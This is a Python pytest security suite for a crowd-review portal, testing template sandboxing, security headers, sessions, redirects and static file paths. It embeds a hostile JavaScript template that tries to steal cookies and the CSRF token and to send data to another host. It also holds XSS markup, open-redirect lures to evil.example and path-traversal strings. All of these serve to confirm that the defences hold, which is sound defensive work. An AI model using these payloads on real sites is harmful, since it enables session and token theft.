"""What a hostile template, input, page or neighbour cannot do. Each would succeed without its defence."""

from __future__ import annotations

import html
import json
import socket
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import expect

from tests.review_server.portal.conftest import BOXES, Visitor, ask, picture
from tests.review_server.rig import Rig

Visit = Callable[..., Visitor]

# A worker template that is out for what it can get. It writes what it got into a crowd-input and says when.
HOSTILE = """
<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><crowd-input name="loot" label="Loot"></crowd-input></crowd-form>
<script>
  const got = [];
  const attempt = async (name, act) => {
    try { const value = await act(); if (value) got.push(name + ": " + value); } catch {}
  };
  (async () => {
    await attempt("cookie", () => document.cookie);
    await attempt("storage", () => localStorage.length + 1);
    await attempt("token", () => parent.document.querySelector("meta[name=csrf-token]").content);
    await attempt("portal", () => { parent.document.title = "mine"; return "changed"; });
    for (const path of ["/worker/session", "/worker/queue"]) {
      await attempt(path, async () => (await fetch("%(portal)s" + path, { credentials: "include" })).status);
      await attempt("blind " + path, async () =>
        (await fetch("%(portal)s" + path, { mode: "no-cors", credentials: "include" })).type);
    }
    await attempt("elsewhere", async () => (await fetch("%(elsewhere)s/fetch", { mode: "no-cors" })).type);
    await attempt("beacon", () => { navigator.sendBeacon("%(elsewhere)s/beacon", "x"); });
    for (const [kind, source] of [["IMG", "src"], ["SCRIPT", "src"], ["IFRAME", "src"], ["VIDEO", "src"]]) {
      await attempt(kind, () => new Promise((resolve) => {
        const element = document.createElement(kind);
        element[source] = "%(elsewhere)s/" + kind;
        element.onload = () => resolve(kind === "IFRAME" ? "" : "loaded");
        element.onerror = () => resolve("");
        document.body.append(element);
        setTimeout(() => resolve(""), 300);
      }));
    }
    await attempt("socket", () => new Promise((resolve) => {
      const made = new WebSocket("%(elsewhere)s".replace("http", "ws"));
      made.onopen = () => resolve("open"); made.onerror = () => resolve("");
    }));
    await attempt("top", () => { top.location = "%(elsewhere)s/top"; });
    await attempt("popup", () => window.open("%(elsewhere)s/popup") && "opened");
    document.body.dataset.loot = JSON.stringify(got);
  })();
</script>"""


class Elsewhere:
    """Another host; it writes down who called."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.paths.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    made = Elsewhere()
    thread = threading.Thread(target=made.server.serve_forever, daemon=True)
    thread.start()
    yield made
    made.server.shutdown()
    made.server.server_close()


def test_a_template_reaches_neither_the_portal_nor_another_host(rig: Rig, visit: Visit, elsewhere: Elsewhere):
    flow = rig.flow(content=HOSTILE % {"portal": rig.url, "elsewhere": elsewhere.url})
    flow.start()
    reviewer = visit(flow)
    reviewer.take()
    frame = reviewer.page.frames[1]
    frame.wait_for_function("() => document.body.dataset.loot")
    assert json.loads(frame.evaluate("document.body.dataset.loot")) == []
    assert elsewhere.paths == []
    assert frame.evaluate("self.origin") == "null"
    expect(reviewer.page).to_have_title("Check the boxes · Nightloop")
    assert reviewer.page.url.startswith(f"{rig.url}/work/")


@pytest.mark.parametrize(
    ("escape", "rule"), [("location = '{}/?it'", "frame-src"), ("document.forms[0].submit()", "form-action")]
)
def test_a_template_cannot_take_its_frame_elsewhere(
    rig: Rig, visit: Visit, elsewhere: Elsewhere, escape: str, rule: str
):
    """A frame may always navigate itself: the address would carry what the template has seen."""
    script = f"<script>{escape.format(elsewhere.url)}</script>"
    flow = rig.flow(content=f"<form method=post action='{elsewhere.url}'></form>{script}")
    flow.start()
    reviewer = visit(flow)
    with reviewer.page.expect_event("console", lambda message: rule in message.text):
        reviewer.page.locator("[data-first]").click()
    assert elsewhere.paths == []


def test_a_template_sees_only_the_images_it_was_granted(rig: Rig, visit: Visit):
    bucket, elsewhere = rig.bucket(), rig.bucket()
    rig.s3.put_object(Bucket=bucket, Key="mine.jpg", Body=picture())
    rig.s3.put_object(Bucket=elsewhere, Key="other.jpg", Body=picture())
    # Signed by somebody who may read it: a template may not show it all the same when no task names it.
    other = rig.s3.generate_presigned_url("get_object", Params={"Bucket": elsewhere, "Key": "other.jpg"})
    content = f"""<script src="https://assets.crowd.aws/crowd-html-elements.js"></script><crowd-form>
      <img id="mine" src="{{{{ task.input.mine | grant_read_access }}}}">
      <img id="other" src="{html.escape(other)}"></crowd-form>"""
    flow = rig.flow(bucket=bucket, content=content)
    flow.start(content={"mine": f"s3://{bucket}/mine.jpg"})
    reviewer = visit(flow)
    reviewer.take()
    frame = reviewer.page.frames[1]
    frame.wait_for_function("() => document.querySelector('#mine').naturalWidth > 0")
    frame.wait_for_function("() => document.querySelector('#other').complete")
    assert frame.evaluate("document.querySelector('#other').naturalWidth") == 0


MARKUP = '"><img src=x onerror="document.body.dataset.ran=1"><svg onload="document.body.dataset.ran=1">'


@pytest.mark.parametrize("text", [MARKUP, "javascript:document.body.dataset.ran=1", "</script><script>ran=1"])
def test_markup_in_inputs_and_labels_is_text(rig: Rig, visit: Visit, text: str):
    flow = rig.flow(content=BOXES, TaskTitle=text[:128], TaskDescription=text[:255])
    rig.s3.put_object(Bucket=flow.bucket, Key="night/a b.jpg", Body=picture())
    box = {"label": text, "left": 40, "top": 50, "width": 100, "height": 80}
    ask(flow, labels=[text, "dog"], initialValue=[box], instructions=text)
    reviewer = visit(flow)
    expect(reviewer.page.get_by_role("heading", name=text[:128])).to_be_visible()
    reviewer.take()
    reviewer.page.frames[1].wait_for_function("() => document.querySelector('crowd-bounding-box').size")
    for frame in reviewer.page.frames:
        assert frame.evaluate("document.body.dataset.ran === undefined && self.ran === undefined")


def test_a_frame_opens_only_for_its_session_its_task_and_a_minute(rig: Rig, visit: Visit):
    flow = rig.flow()
    flow.start()
    flow.start()
    one, other = visit(flow), visit(flow)
    one.page.locator("[data-take]").click()
    one.page.wait_for_url("**/work/*")
    address = rig.url + str(one.page.locator("#frame").get_attribute("src"))

    def status(visitor: Visitor | None, url: str) -> int:
        return visitor.context.request.get(url).status if visitor else httpx.get(url).status_code

    assert status(one, address) == 200
    assert status(None, address) == 403
    assert status(other, address) == 403
    assert status(one, address[:-3] + "abc") == 403
    assert status(one, f"{rig.url}/frame/guessed") == 403
    rig.clock.advance(61)
    assert status(one, address) == 403
    # A new one comes with the page, as long as the task is in hand.
    one.page.reload()
    address = rig.url + str(one.page.locator("#frame").get_attribute("src"))
    assert status(one, address) == 200
    task = one.page.url.rpartition("/")[2]
    token = str(one.page.locator("meta[name=csrf-token]").get_attribute("content"))
    given = one.context.request.post(
        f"{rig.url}/worker/tasks/{task}/return",
        headers={"x-csrf-token": token, "content-type": "application/json"},
        data="{}",
    )
    assert given.status == 200
    assert status(one, address) == 403


def test_another_workers_task_is_not_there(rig: Rig, visit: Visit):
    flow = rig.flow()
    flow.start()
    one, other = visit(flow), visit(flow)
    one.page.locator("[data-take]").click()
    one.page.wait_for_url("**/work/*")
    reply = other.page.goto(one.page.url)
    assert reply is not None
    assert reply.status == 404


def test_every_page_carries_its_guards(rig: Rig, visit: Visit):
    flow = rig.flow()
    flow.start()
    reviewer = visit(flow, owner=True)
    reviewer.page.locator("[data-take]").click()
    reviewer.page.wait_for_url("**/work/*")
    pages = ["/", "/sign-in", "/welcome", "/owner", f"/owner/flows/{flow.name}", "/owner/templates"]
    for path in [*pages, reviewer.page.url.removeprefix(rig.url), "/work/guessed"]:
        headers = reviewer.context.request.get(rig.url + path).headers
        policy = headers["content-security-policy"]
        assert "unsafe" not in policy, path
        assert "default-src 'none'" in policy
        assert headers["x-frame-options"] == "DENY"
        assert headers["cache-control"] == "no-store"
        assert headers["referrer-policy"] == "same-origin"
        assert headers["x-content-type-options"] == "nosniff"


def test_pages_have_no_script_of_their_own(rig: Rig, visit: Visit):
    """The policy would stop it anyway; a violation in the console would be the first sign."""
    flow = rig.flow(content="<crowd-form></crowd-form>")
    flow.start()
    reviewer = visit(flow, owner=True)
    said: list[str] = []
    reviewer.page.on("console", lambda message: said.append(message.text))
    reviewer.page.on("pageerror", lambda error: said.append(str(error)))
    for path in ["/", "/owner", f"/owner/flows/{flow.name}", "/owner/templates"]:
        reviewer.page.goto(rig.url + path)
    reviewer.page.goto(rig.url)
    reviewer.take()
    # The policy of the frame names a directive that the standard has and Chromium does not yet.
    assert [text for text in said if "directive 'webrtc'" not in text] == []


def test_signing_in_makes_a_new_session_and_ends_the_old(rig: Rig):
    flow = rig.flow()
    name = rig.name("member")
    _, password = rig.review.accounts.add(name, flow.team)

    def sign_in(cookie: str) -> str:
        headers = {"cookie": f"nightloop_session={cookie}"}
        body = {"name": name, "password": password}
        reply = httpx.post(f"{rig.url}/worker/session", json=body, headers=headers)
        assert reply.status_code == 201
        return reply.cookies["nightloop_session"]

    def status(cookie: str) -> int:
        headers = {"cookie": f"nightloop_session={cookie}"}
        return httpx.get(f"{rig.url}/worker/session", headers=headers).status_code

    first = sign_in("planted-by-somebody-else")
    assert first != "planted-by-somebody-else"
    assert status("planted-by-somebody-else") == 401
    assert status(first) == 200
    second = sign_in(first)
    assert second != first
    assert status(second) == 200
    assert status(first) == 401


def test_who_guessed_too_often_is_told_when_to_come_again(rig: Rig, visit: Visit):
    visitor = visit(rig.flow(), sign_in=False)
    guess = {"name": visitor.name, "password": "wrong"}
    with rig.clock.stopped():
        while httpx.post(f"{rig.url}/worker/session", json=guess).status_code == 401:
            pass
        visitor.page.goto(rig.url)
        visitor.page.get_by_label("Name").fill(visitor.name)
        visitor.page.get_by_label("Password").fill(visitor.password)
        visitor.page.get_by_role("button", name="Sign in").click()
        expect(visitor.page.get_by_text("Too many attempts to sign in: try again in")).to_be_visible()


def test_after_signing_in_one_comes_back_to_own_pages_only(rig: Rig):
    for lure in ("https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)"):
        page = httpx.get(f"{rig.url}/sign-in", params={"next": lure}).text
        assert 'data-next="/"' in page
    assert 'data-next="/owner/flows/a"' in httpx.get(f"{rig.url}/sign-in?next=/owner/flows/a").text


def test_the_owners_pages_are_for_owners(rig: Rig, visit: Visit):
    flow = rig.flow()
    reviewer = visit(flow)
    for path in ("/owner", f"/owner/flows/{flow.name}", "/owner/templates"):
        assert reviewer.context.request.get(rig.url + path).status == 403
    tried: dict[str, str | float | bool] = {"template": "<p>", "input": "{}", "csrf_token": "x"}
    for path in ("/owner/templates/preview", "/owner/templates/check"):
        assert reviewer.context.request.post(rig.url + path, form=tried).status == 403


def test_static_files_stay_in_their_folder(rig: Rig):
    styles = httpx.get(f"{rig.url}/sign-in").text.split('rel="stylesheet" href="')[1].split('"')[0]
    assert httpx.get(rig.url + styles).status_code == 200
    folder = styles.rpartition("/")[0]
    host, port = rig.url.removeprefix("http://").split(":")
    for path in ("../rendering.py", "..%2frendering.py", "%2e%2e/rendering.py", "....//rendering.py"):
        with socket.create_connection((host, int(port))) as raw:
            raw.sendall(f"GET {folder}/{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            reply = b"".join(iter(lambda: raw.recv(65536), b""))
        assert b" 200 " not in reply.split(b"\r\n")[0]
